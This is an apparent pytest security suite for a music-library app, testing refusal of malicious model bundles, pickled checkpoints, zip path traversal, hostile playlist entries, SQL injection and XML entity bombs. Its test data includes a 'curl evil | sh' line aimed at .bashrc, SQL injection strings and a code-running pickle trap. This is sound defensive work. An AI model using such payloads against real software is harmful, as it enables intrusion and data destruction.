"""Hostile input: model bundles and checkpoints that try to run code or exhaust memory, playlist
files that point at surprising places, exports that could touch other files, and SQL-looking
text in every place a user can type. Real files, real SQLite, real torch/safetensors."""

from __future__ import annotations

import ast
import hashlib
import json
import os
import pickle
import re
import threading
import zipfile
from pathlib import Path

import pytest
import torch
from audio_fixtures import write_audio

# The window fixtures (and isolated QSettings), not the module-wide guards of the app tests.
from conftest_app import app_settings, empty_library, isolated_qsettings, make_window  # noqa: F401
from musicssl.engine import playlist_formats, playlist_trust, playlists
from musicssl.engine.bundle import (
    CONFIG_NAME,
    WEIGHTS_NAME,
    BundleError,
    build_model,
    default_config,
    load_bundle,
    save_bundle,
)
from musicssl.engine.cli import main as cli_main
from musicssl.engine.errors import MusicSSLError
from musicssl.engine.library import Library
from musicssl.engine.models import install_bundle, user_models_dir
from musicssl.training import checkpoint

ROOT = Path(__file__).resolve().parent.parent


class Trap:
    """Unpickling this creates a marker file: proof that a loader ran code from the file."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):  # noqa: ANN204
        return (Path.touch, (self.marker,))


@pytest.fixture
def bundle_dir(tmp_path) -> Path:
    config = default_config("tiny", "melcnn", {"channels": [4, 8]}, tags=["rock", "jazz"])
    torch.manual_seed(0)
    folder = tmp_path / "tiny"
    save_bundle(build_model(config), config, folder)
    return folder


def zip_of(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def tree_state(folder: Path) -> dict[str, str]:
    """Every file under `folder` (links not followed) with a hash of its bytes or link target."""
    state = {}
    for path in sorted(folder.rglob("*")):
        rel = str(path.relative_to(folder))
        if path.is_symlink():
            state[rel] = "link->" + os.readlink(path)
        elif path.is_file():
            state[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return state


# ------------------------------------------------------------------------------ model bundles
def test_pickle_disguised_as_weights_is_never_unpickled(bundle_dir, tmp_path):
    marker = tmp_path / "code-ran.marker"
    evil = pickle.dumps({"encoder.proj.weight": Trap(marker)})
    config = (bundle_dir / CONFIG_NAME).read_bytes()
    (bundle_dir / WEIGHTS_NAME).write_bytes(evil)
    zipped = zip_of(tmp_path / "evil.zip", {CONFIG_NAME: config, WEIGHTS_NAME: evil})
    for source in (bundle_dir, zipped):
        with pytest.raises(BundleError, match=r"model\.safetensors: not a safetensors file"):
            load_bundle(source)
        with pytest.raises(BundleError):
            install_bundle(source)  # the path a user takes: validated before anything is copied
    assert not marker.exists()
    assert not user_models_dir().exists() or not any(user_models_dir().iterdir())


@pytest.mark.parametrize(
    "changes,pattern",
    [
        ({"name": 42}, r"'name' must be a non-empty string"),
        ({"embedding_dim": -1}, r"'embedding_dim' must be an integer"),
        ({"excerpt_samples": 1.5}, r"'excerpt_samples' must be an integer"),
        ({"arch_params": ["channels", 4]}, r"'arch_params' must be a JSON object"),
        ({"arch_params": {"channels": "many"}}, r"arch_params do not fit"),
        ({"tags": [1, 2]}, r"'tags' must be a list of non-empty strings"),
        ({"thresholds": ["high", 0.5]}, r"'thresholds' must be a list of numbers"),
        ({"thresholds": [float("nan"), 0.5]}, r"'thresholds' must be a list of numbers"),
        ({"provenance": "trust me"}, r"'provenance' must be a JSON object"),
        ({"__class__": "os.system"}, r"unknown key\(s\): __class__"),
    ],
)
def test_config_with_wrong_types_is_refused_naming_the_field(bundle_dir, changes, pattern):
    data = json.loads((bundle_dir / CONFIG_NAME).read_text())
    data.update(changes)
    (bundle_dir / CONFIG_NAME).write_text(json.dumps(data))  # NaN is written as the literal NaN
    with pytest.raises(BundleError, match=pattern) as info:
        load_bundle(bundle_dir)
    assert str(bundle_dir / CONFIG_NAME) in str(info.value)


def test_config_describing_a_huge_network_is_refused_not_crashing(bundle_dir):
    """channels of 100,000 would be ~360 GB of float32: the allocation fails, reported cleanly."""
    data = json.loads((bundle_dir / CONFIG_NAME).read_text())
    data["arch_params"]["channels"] = [100_000, 100_000]
    (bundle_dir / CONFIG_NAME).write_text(json.dumps(data))
    with pytest.raises(BundleError, match=r"config\.json: describes a network too large"):
        load_bundle(bundle_dir)


def test_weights_with_nan_or_extra_tensors_are_refused(bundle_dir):
    import safetensors.torch

    path = bundle_dir / WEIGHTS_NAME
    original = path.read_bytes()
    tensors = safetensors.torch.load(original)
    poisoned = dict(tensors)
    poisoned["encoder.proj.weight"] = poisoned["encoder.proj.weight"].clone()
    poisoned["encoder.proj.weight"][0, 0] = float("nan")
    path.write_bytes(safetensors.torch.save(poisoned))
    with pytest.raises(BundleError, match=r"non-finite values .* encoder\.proj\.weight"):
        load_bundle(bundle_dir)
    path.write_bytes(safetensors.torch.save({**tensors, "payload": torch.zeros(4)}))
    with pytest.raises(BundleError, match=r"unexpected tensor\(s\) payload"):
        load_bundle(bundle_dir)


@pytest.mark.parametrize(
    "prefix",
    ["../", "../../etc/", "/tmp/abs/", "sub/../../", "C:/Users/", "sub\\..\\"],
)
def test_zip_with_path_traversal_names_is_refused(bundle_dir, tmp_path, prefix):
    members = {prefix + n: (bundle_dir / n).read_bytes() for n in (CONFIG_NAME, WEIGHTS_NAME)}
    zipped = zip_of(tmp_path / "traversal.zip", members)
    before = tree_state(tmp_path)
    with pytest.raises(BundleError, match="point outside the bundle"):
        load_bundle(zipped)
    with pytest.raises(BundleError, match="point outside the bundle"):
        install_bundle(zipped)
    assert tree_state(tmp_path) == before


def test_zip_hiding_a_traversal_member_beside_a_good_bundle_is_refused(bundle_dir, tmp_path):
    members = {n: (bundle_dir / n).read_bytes() for n in (CONFIG_NAME, WEIGHTS_NAME)}
    members["../../.bashrc"] = b"curl evil | sh\n"
    with pytest.raises(BundleError, match=r"'\.\./\.\./\.bashrc'"):
        load_bundle(zip_of(tmp_path / "sneaky.zip", members))


def test_install_keeps_a_hostile_bundle_name_inside_the_models_folder(bundle_dir, tmp_path):
    data = json.loads((bundle_dir / CONFIG_NAME).read_text())
    data["name"] = "../../../../escaped/.."
    (bundle_dir / CONFIG_NAME).write_text(json.dumps(data))
    info = install_bundle(bundle_dir)
    root = user_models_dir().resolve()
    assert info.path.resolve().parent == root
    assert load_bundle(info.path).name == "../../../../escaped/.."  # the name is just a label
    assert [p for p in root.parent.parent.rglob("escaped") if root not in p.parents] == []


# ------------------------------------------------------------------------------ checkpoints
def test_checkpoint_holding_an_arbitrary_object_is_refused(tmp_path):
    marker = tmp_path / "code-ran.marker"
    path = tmp_path / "step-00000001.pt"
    torch.save({"format": checkpoint.FORMAT, "format_version": 1, "x": Trap(marker)}, path)
    with pytest.raises(checkpoint.CheckpointError, match="not a readable MusicSSL checkpoint"):
        checkpoint.load_checkpoint(path)
    with pytest.raises(MusicSSLError):  # what the training CLI catches and prints
        checkpoint.load_model(tmp_path)  # a run folder: resolved to the newest checkpoint
    assert not marker.exists()


def test_plain_checkpoint_round_trips(tmp_path):
    config = default_config("tiny", "melcnn", {"channels": [4, 8]})
    model = build_model(config)
    state = {"bundle_config": config.to_dict(), "model": model.state_dict(), "step": 3}
    path = checkpoint.save_checkpoint(tmp_path / "step-00000003.pt", state)
    loaded, loaded_config, raw = checkpoint.load_model(path)
    assert raw["step"] == 3 and loaded_config == config
    pairs = zip(loaded.state_dict().values(), model.state_dict().values(), strict=True)
    assert all(torch.equal(a, b) for a, b in pairs)


# ------------------------------------------------------------------------------ playlists
@pytest.fixture
def lib(tmp_path) -> Library:
    music = tmp_path / "music"
    music.mkdir()
    hostile_tags = {"artist": "'; DROP TABLE tracks; --", "title": "x' OR '1'='1"}
    write_audio(music / "one.mp3", seconds=1.0, seed=1, tags=hostile_tags)
    write_audio(music / "two.flac", seconds=1.0, seed=2, tags={"artist": "Ben", "title": "Two"})
    library = Library(tmp_path / "lib.db")
    library.scan([music])
    yield library
    library.close()


def test_export_touches_only_the_chosen_file(lib, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "keep.txt").write_text("mine")
    victim = tmp_path / "victim.m3u8"
    victim.write_text("precious")
    (out / "linked.m3u8").symlink_to(victim)
    pid = lib.create_playlist("../../etc/passwd\nline two", [1, 2])
    before = tree_state(out)

    dest = lib.export_playlist(pid, out / "mix.m3u8")
    after = tree_state(out)
    assert set(after) == set(before) | {"mix.m3u8"}  # no temp files left, nothing else touched
    assert {k: v for k, v in after.items() if k != "mix.m3u8"} == before
    text = dest.read_text()
    assert "#PLAYLIST:../../etc/passwd line two\n" in text  # the name is only a title line

    # Exporting onto a symlink replaces the link in the chosen folder; its target is untouched.
    lib.export_playlist(pid, out / "linked.m3u8")
    assert victim.read_text() == "precious"
    assert not (out / "linked.m3u8").is_symlink()
    assert (out / "linked.m3u8").read_text() == text

    # A failed export (M3U cannot hold a line break) leaves the folder as it was.
    lib.db.execute("UPDATE tracks SET path = path || char(10) || 'x' WHERE id = 1")
    state = tree_state(out)
    with pytest.raises(ValueError, match="line break"):
        lib.export_playlist(pid, out / "mix.m3u8")
    assert tree_state(out) == state


def test_import_flags_entries_the_playlist_cannot_vouch_for(lib, tmp_path):
    lists = tmp_path / "lists"
    (lists / "sub").mkdir(parents=True)
    inside = write_audio(lists / "sub" / "inside.mp3", seconds=1.0, seed=3)
    outside_dir = tmp_path / "elsewhere"
    outside_dir.mkdir()
    outside = write_audio(outside_dir / "private.mp3", seconds=1.0, seed=4)
    (lists / "link.mp3").symlink_to(outside)
    fifo = lists / "pipe.mp3"
    os.mkfifo(fifo)
    in_library = lib.track(1)["path"]
    m3u = lists / "hostile.m3u"
    m3u.write_text(
        "\n".join(
            [
                "#EXTM3U",
                in_library,  # already in the library: matched wherever it is
                "sub/inside.mp3",  # in the playlist's folder tree: scanned in
                "../elsewhere/private.mp3",  # a '..' escape
                str(outside),  # the same file, absolute
                "link.mp3",  # a link inside that leads out
                "pipe.mp3",  # a FIFO: opening it would block forever
                "/dev/zero",  # a device file
                "http://example.invalid/stream.mp3",  # a URL
                "gone.mp3",  # does not exist
            ]
        )
        + "\n"
    )
    result: list = []
    worker = threading.Thread(target=lambda: result.append(lib.import_playlist(m3u)), daemon=True)
    worker.start()
    worker.join(30)
    assert not worker.is_alive(), "import blocked (opened a FIFO?)"
    [res] = result
    assert res.matched == 2 and res.skipped_urls == 1
    items = playlists.items(lib.db, res.playlist_id)
    assert [i["path"] for i in items] == [in_library, str(inside)]
    assert res.flagged == {
        str(outside): playlist_trust.OUTSIDE,
        str(lists / "link.mp3"): playlist_trust.OUTSIDE,
        str(fifo): playlist_trust.NOT_A_FILE,
        "/dev/zero": playlist_trust.NOT_A_FILE,
    }
    assert res.missing == [str(lists / "gone.mp3")]
    stored = {r["path"] for r in lib.db.query("SELECT path FROM tracks")}
    assert str(outside) not in stored and "/dev/zero" not in stored

    # Once the user adds the folder on purpose, the same playlist brings the file in.
    lib.scan([outside_dir])
    again = lib.import_playlist(m3u)
    assert str(outside) not in again.flagged and again.matched == 5


def test_cli_lists_flagged_playlist_entries(lib, tmp_path, capsys):
    (tmp_path / "far").mkdir()
    far = write_audio(tmp_path / "far" / "x.mp3", seconds=1.0, seed=5)
    (tmp_path / "pl").mkdir()
    m3u = tmp_path / "pl" / "p.m3u8"
    m3u.write_text(f"{far}\n/dev/null\n")
    code = cli_main(["--db", str(lib.path), "playlist", "import", str(m3u)])
    out = capsys.readouterr().out
    assert code == 0
    assert f"not added: {far} (outside" in out and "not added: /dev/null (not a regular" in out


def test_app_shows_flagged_playlist_entries(qtbot, make_window, empty_library, tmp_path):  # noqa: F811
    (tmp_path / "far").mkdir()
    far = write_audio(tmp_path / "far" / "x.mp3", seconds=1.0, seed=6)
    (tmp_path / "pl").mkdir()
    m3u = tmp_path / "pl" / "p.m3u8"
    m3u.write_text(f"{far}\n/dev/null\n")
    window = make_window(empty_library)
    window.dialogs.open_answers.append(str(m3u))
    with qtbot.waitSignal(window.import_finished, timeout=60_000) as imported:
        window.act_import_playlist.trigger()
    assert set(imported.args[0].flagged) == {str(far), "/dev/null"}
    [message] = window.dialogs.infos
    assert str(far) in message and "/dev/null" in message and "Add Files" in message
    assert empty_library.count() == 0


# ------------------------------------------------------------------------------ SQL
HOSTILE = [
    "'; DROP TABLE tracks; --",
    "x' OR '1'='1",
    '" OR 1=1 --',
    "Robert'); DROP TABLE playlists;--",
    "%",
    "_",
    "a' UNION SELECT path, 1 FROM tracks --",
    "; ATTACH DATABASE '/tmp/pwn.db' AS pwn; --",
]


def schema(lib: Library) -> list[tuple]:
    return lib.db.execute("SELECT type, name FROM sqlite_master ORDER BY name").fetchall()


def cli_json(capsys, lib: Library, *argv: str):  # noqa: ANN201
    code = cli_main(["--db", str(lib.path), *argv, "--json"])
    captured = capsys.readouterr()
    assert code == 0, captured.err
    return json.loads(captured.out)


def test_hostile_filters_through_the_cli_are_data(lib, capsys):
    before = schema(lib)
    rows = cli_json(capsys, lib, "tracks", "--where", "artist='; DROP TABLE tracks; --")
    assert [r["title"] for r in rows] == ["x' OR '1'='1"]
    rows = cli_json(capsys, lib, "tracks", "--where", "title=x' OR '1'='1")
    assert [r["artist"] for r in rows] == ["'; DROP TABLE tracks; --"]
    for text in HOSTILE:
        for where in (f"artist={text}", f"title~{text}", f"tag={text}", f"tag!={text}"):
            cli_json(capsys, lib, "tracks", "--where", where)
        cli_json(capsys, lib, "tracks", "--search", text)
    # '%' and '_' are literal here only where the filter says "=": LIKE treats them as wildcards.
    assert cli_json(capsys, lib, "tracks", "--where", "artist=%") == []
    for bad in (["--sort", "artist; DROP TABLE tracks"], ["--where", "artist;DROP=1"],
                ["--where", "year>1 OR 1=1"]):  # fmt: skip
        assert cli_main(["--db", str(lib.path), "tracks", *bad]) == 2
        assert "musicssl: error:" in capsys.readouterr().err
    assert schema(lib) == before
    assert lib.db.execute("SELECT count(*) FROM tracks").fetchone()[0] == 2
    assert not Path("/tmp/pwn.db").exists()


def test_hostile_tag_and_playlist_names_are_stored_verbatim(lib, capsys):
    before = schema(lib)
    for text in HOSTILE:
        lib.set_user_tag(1, text)
        rows = cli_json(capsys, lib, "tracks", "--where", f"tag={text}")
        assert [r["id"] for r in rows] == [1]
        pid = cli_json(capsys, lib, "playlist", "create", text, "1", "2")["id"]
        shown = cli_json(capsys, lib, "playlist", "show", str(pid))
        assert [i["track_id"] for i in shown] == [1, 2]
        playlists.rename(lib.db, pid, text + " (renamed)")
    assert {t["tag"] for t in lib.tags(1) if t["source"] == "user"} == set(HOSTILE)
    names = {p["name"] for p in cli_json(capsys, lib, "playlist", "list")}
    assert names == {t + " (renamed)" for t in HOSTILE}
    assert schema(lib) == before
    assert lib.db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


# Every f-string that builds SQL in the code, and what it interpolates. Each was reviewed: the
# values are constants, whitelisted names, or "?, ?" placeholder lists, never user text. A new
# interpolation fails this test until someone reviews it and adds it here.
REVIEWED_SQL_INTERPOLATIONS = {
    "engine/db.py": {"BUSY_TIMEOUT_MS", "version + 1", "PAGE_SIZE"},
    "engine/embeddings.py": {"verb", "marks"},
    "engine/folders.py": {"where", "ids", "skip"},  # path-range conditions with ? placeholders
    "engine/library.py": {"q.where()", "TRACK_COLUMNS", "marks"},
    "engine/user_labels.py": {"_USABLE"},
    "engine/excerpt_sets.py": {"marks"},
    "engine/playlists.py": {"marks"},
    "engine/similar.py": {"marks"},
    "training/datasets.py": {"marks"},
    "engine/track_query.py": {
        "test",
        "columns",
        "where",
        "order_by",
        "text_sort",
        "direction",
    },  # fmt: skip
}
_SQL_TEXT = re.compile(
    r"^\s*(SELECT|INSERT|UPDATE|DELETE|PRAGMA|CREATE|DROP|ALTER|WITH|REPLACE|ATTACH)\b"
    r"|\b(FROM|WHERE|ORDER BY|VALUES|LIMIT|INTO)\b"
)


def test_sql_is_never_built_from_unreviewed_interpolations():
    found: dict[str, set[str]] = {}
    for folder in ("engine", "app", "training"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            rel = str(path.relative_to(ROOT))
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.JoinedStr):
                    text = "".join(v.value for v in node.values if isinstance(v, ast.Constant))
                    values = [v.value for v in node.values if isinstance(v, ast.FormattedValue)]
                elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod):
                    text = node.left.value if isinstance(node.left, ast.Constant) else ""
                    values = [node.right]
                elif isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "format":
                    owner = node.func.value  # type: ignore[attr-defined]
                    text = owner.value if isinstance(owner, ast.Constant) else ""
                    values = [*node.args, *(k.value for k in node.keywords)]
                else:
                    continue
                if isinstance(text, str) and _SQL_TEXT.search(text) and values:
                    found.setdefault(rel, set()).update(ast.unparse(v) for v in values)
    unreviewed = {
        rel: sorted(exprs - REVIEWED_SQL_INTERPOLATIONS.get(rel, set()))
        for rel, exprs in found.items()
        if exprs - REVIEWED_SQL_INTERPOLATIONS.get(rel, set())
    }
    assert not unreviewed, f"SQL built from unreviewed values: {unreviewed}"


def test_parse_rejects_names_outside_the_whitelist():
    from musicssl.engine.track_query import QueryError, parse_filters

    for text in ("artist) OR (1=1", "sqlite_master=1", "id=1; DROP TABLE tracks"):
        with pytest.raises(QueryError):
            parse_filters([text]).sql()
    sql, params = parse_filters(["artist='; DROP TABLE tracks; --"]).sql()
    assert "DROP" not in sql and params[0] == "'; DROP TABLE tracks; --"


def test_playlist_reader_refuses_xml_entities(tmp_path):
    bomb = tmp_path / "bomb.xspf"
    bomb.write_text(
        '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        '<playlist xmlns="http://xspf.org/ns/0/"><title>&b;</title></playlist>'
    )
    with pytest.raises(playlist_formats.PlaylistFormatError, match="entity"):
        playlist_formats.parse_playlist(bomb)
